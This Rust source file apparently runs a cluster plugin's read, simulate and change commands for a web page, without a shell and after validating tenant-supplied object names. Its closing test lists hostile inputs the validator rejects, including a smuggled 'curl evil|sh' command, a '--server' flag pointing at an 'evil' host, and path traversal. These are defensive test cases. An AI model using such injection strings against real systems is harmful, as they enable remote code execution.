//! Commands of the page: each runs the plugin itself, as a user would type it.
//!
//! Called by the server, after it has checked the request. Arguments are passed without a shell,
//! and `--` stands before the object's name.

use std::{
    env,
    process::{Output, Stdio},
    time::Duration,
};

use anyhow::{Context, Result, ensure};
use serde::Serialize;
use serde_json::Value;
use tenure_policy::naming::is_segment;
use tokio::{process::Command, time::timeout};

use crate::{cluster::TOKEN_VARIABLE, print::printable};

/// The longest time that a command may take which only reads.
const LONGEST: Duration = Duration::from_mins(2);

/// The command that takes the flags for files and configuration.
pub const EXPLAIN: &str = "explain";

/// The plugin, with the flags that each of its commands gets.
#[derive(Clone, Debug)]
pub struct Child {
    /// The flags of the cluster and the user.
    pub connect: Vec<String>,
    /// The user's bearer token.
    pub token: Option<String>,
    /// The flags for files, time and configuration.
    pub reading: Vec<String>,
    /// The namespace of `-n`. None: the user has named none.
    pub namespace: Option<String>,
}

/// The output of a command.
#[derive(Debug, Serialize)]
pub struct CommandOutput {
    /// The lines of standard output and then of standard error, made printable.
    pub succeeded: bool,
    pub text: String,
}

/// The object of a command. Its name comes from tenants, and was checked.
#[derive(Clone, Debug)]
pub struct ChildObject {
    namespace: String,
    workload: String,
}

impl ChildObject {
    /// Returns the object of a row. An error: its kind or name can't be that of an object, and
    /// might be read as a flag or a path.
    pub fn new(namespace: &str, workload: &str) -> Result<Self> {
        let (kind, name) = workload.split_once('/').unwrap_or_default();
        let is_kind = kind.starts_with(|c: char| c.is_ascii_alphabetic())
            && kind.chars().all(|c| c.is_ascii_alphanumeric() || "-.".contains(c));
        let is_name = !name.starts_with('-') && is_segment(name) && is_segment(namespace);
        ensure!(is_kind && is_name, "{workload:?} in {namespace:?} can't be an object of a cluster");
        Ok(Self { namespace: namespace.to_owned(), workload: workload.to_owned() })
    }
}

impl Child {
    /// Runs a command of the plugin that only reads, and returns all that it prints.
    pub async fn read(&self, verb: &str, object: &ChildObject) -> Result<CommandOutput> {
        Ok(CommandOutput::new(&ended(self.command(verb, object, None)?).await?))
    }

    /// Simulates the past of the cluster with these limits, as flags, and returns the report. An
    /// error: the command has failed, with its output.
    pub async fn simulate(&self, limits: &[String]) -> Result<Value> {
        let mut command = self.plugin()?;
        command.args(["simulate", "--from-cluster", "--output", "json"]).args(limits);
        command.args(self.namespace.iter().flat_map(|of| ["-n", of])).args(&self.connect).args(&self.reading);
        let output = ended(command).await?;
        ensure!(output.status.success(), "{}", CommandOutput::new(&output).text);
        Ok(serde_json::from_slice(&output.stdout)?)
    }

    /// Runs a command of the plugin that changes something. The command continues if the page that
    /// asked for it is closed.
    pub async fn change(
        &self,
        verb: &str,
        object: &ChildObject,
        more: Option<&str>,
    ) -> Result<CommandOutput> {
        let mut command = self.command(verb, object, more)?;
        // Ctrl-C is for this process alone
        #[cfg(unix)]
        command.process_group(0);
        let output = tokio::spawn(async move { command.output().await }).await??;
        Ok(CommandOutput::new(&output))
    }

    /// Returns a command about an object. `more` is a further argument, such as a duration.
    fn command(&self, verb: &str, object: &ChildObject, more: Option<&str>) -> Result<Command> {
        let ChildObject { namespace, workload } = object;
        let reading = self.reading.iter().filter(|_| verb == EXPLAIN);
        let mut command = self.plugin()?;
        command.arg(verb).args(["-n", namespace]).args(&self.connect).args(reading).arg("--").arg(workload);
        command.args(more);
        Ok(command)
    }

    /// Returns a command that runs this program, without standard input.
    fn plugin(&self) -> Result<Command> {
        let mut command = Command::new(env::current_exe()?);
        command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped());
        command.envs(self.token.iter().map(|token| (TOKEN_VARIABLE, token)));
        Ok(command)
    }
}

/// Waits for the end of a command that only reads. The command is killed if the request for it
/// ends, or after two minutes.
async fn ended(mut command: Command) -> Result<Output> {
    command.kill_on_drop(true);
    let late = || format!("the command has no result after {LONGEST:?}: run it in a terminal");
    Ok(timeout(LONGEST, command.output()).await.with_context(late)??)
}

impl CommandOutput {
    /// Returns what a command has printed.
    fn new(output: &Output) -> Self {
        let text = [&output.stdout, &output.stderr].map(|text| String::from_utf8_lossy(text).into_owned());
        let lines: Vec<String> = text.iter().flat_map(|text| text.lines()).map(printable).collect();
        Self { succeeded: output.status.success(), text: lines.join("\n") }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_name_that_a_tenant_has_made_up_is_a_flag_or_another_object() {
        for (namespace, workload) in
            [("team", "job/train"), ("team", "pytorchjob.kubeflow.org/bert-1.2"), ("kube-system", "pod/a")]
        {
            assert!(ChildObject::new(namespace, workload).is_ok(), "{workload}");
        }
        for (namespace, workload) in [
            ("team", "--server=http://evil/x"),
            ("team", "-lx/y"),
            ("team", "job/-x"),
            ("team", "job/a b"),
            ("team", "x;curl evil|sh;#/y"),
            ("team", "job"),
            ("team", "job/"),
            ("team", "/a"),
            ("team", "job/../../pods/x"),
            ("", "job/a"),
            ("a b", "job/a"),
        ] {
            assert!(ChildObject::new(namespace, workload).is_err(), "{namespace} {workload}");
        }
    }
}
